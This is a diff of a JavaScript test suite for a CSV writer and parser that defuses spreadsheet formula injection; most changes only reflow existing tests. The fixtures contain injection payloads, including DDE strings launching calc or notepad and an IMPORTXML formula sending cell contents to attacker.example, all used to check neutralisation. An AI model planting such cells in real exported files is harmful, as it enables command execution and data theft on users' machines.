@@ -23,7 +23,9 @@ describe('CSV', () => {
   });
 
   it('defuses spreadsheet formulas but leaves negative numbers alone', () => {
-    expect(toCsv([['=HYPERLINK("http://x")', '-12.5', '+7', '@SUM(A1)', -3, '+218 91 234 5678', '-2+cmd|calc']])).toBe(`"'=HYPERLINK(""http://x"")",-12.5,+7,'@SUM(A1),-3,+218 91 234 5678,'-2+cmd|calc\r\n`);
+    expect(toCsv([['=HYPERLINK("http://x")', '-12.5', '+7', '@SUM(A1)', -3, '+218 91 234 5678', '-2+cmd|calc']])).toBe(
+      `"'=HYPERLINK(""http://x"")",-12.5,+7,'@SUM(A1),-3,+218 91 234 5678,'-2+cmd|calc\r\n`,
+    );
   });
 
   it('reports an unclosed quote and text after a closing quote, naming the row', () => {
@@ -42,7 +44,7 @@ describe('CSV', () => {
     ["=cmd|' /C calc'!A0"],
     ["+cmd|' /C notepad'!A0"],
     ["-2+3+cmd|' /C calc'!A0"],
-    ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ["@SUM(1+1)*cmd|' /C calc'!A0"],
     ['=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")'],
     ['\t=1+1'],
     ['\r=1+1'],
@@ -58,19 +60,35 @@ describe('CSV', () => {
   });
 
   it('quotes a cell holding a semicolon or a tab, so a formula after one stays inside it in a semicolon locale', () => {
-    expect(toCsv([['a;=1+1', "x;=cmd|' /C calc'!A0", 'b\t=1+1', '+1;=1+1']])).toBe(`"a;=1+1","x;=cmd|' /C calc'!A0","b\t=1+1","'+1;=1+1"\r\n`);
+    expect(toCsv([['a;=1+1', "x;=cmd|' /C calc'!A0", 'b\t=1+1', '+1;=1+1']])).toBe(
+      `"a;=1+1","x;=cmd|' /C calc'!A0","b\t=1+1","'+1;=1+1"\r\n`,
+    );
     expect(parseCsv(toCsv([['a;=1+1']]), { delimiter: 'detect' })).toEqual({ ok: true, value: [['a;=1+1']] });
   });
 
-  it.each([['-12.5'], ['+7'], ['+218 91 234 5678'], ['+218-91-234-5678'], ['-'], ['(091) 234 5678'], ['Ahmed'], ['a=b'], ['']])('leaves %j as it is', (text) => {
-    expect(neutraliseFormula(text)).toBe(text);
-  });
+  it.each([['-12.5'], ['+7'], ['+218 91 234 5678'], ['+218-91-234-5678'], ['-'], ['(091) 234 5678'], ['Ahmed'], ['a=b'], ['']])(
+    'leaves %j as it is',
+    (text) => {
+      expect(neutraliseFormula(text)).toBe(text);
+    },
+  );
 
   it('reads files saved with semicolons or tabs when asked to detect the delimiter, and a byte-order mark', () => {
-    expect(parseCsv('\ufeffname;people\r\nCamp A;40\r\n', { delimiter: 'detect' })).toEqual({ ok: true, value: [['name', 'people'], ['Camp A', '40']] });
-    expect(parseCsv('name\tpeople\nCamp A\t40', { delimiter: 'detect' })).toEqual({ ok: true, value: [['name', 'people'], ['Camp A', '40']] });
+    expect(parseCsv('\ufeffname;people\r\nCamp A;40\r\n', { delimiter: 'detect' })).toEqual({
+      ok: true,
+      value: [
+        ['name', 'people'],
+        ['Camp A', '40'],
+      ],
+    });
+    expect(parseCsv('name\tpeople\nCamp A\t40', { delimiter: 'detect' })).toEqual({
+      ok: true,
+      value: [
+        ['name', 'people'],
+        ['Camp A', '40'],
+      ],
+    });
     expect(parseCsv('name;people\r\n')).toEqual({ ok: true, value: [['name;people']] });
     expect(parseCsv('')).toEqual({ ok: true, value: [] });
   });
 });
-
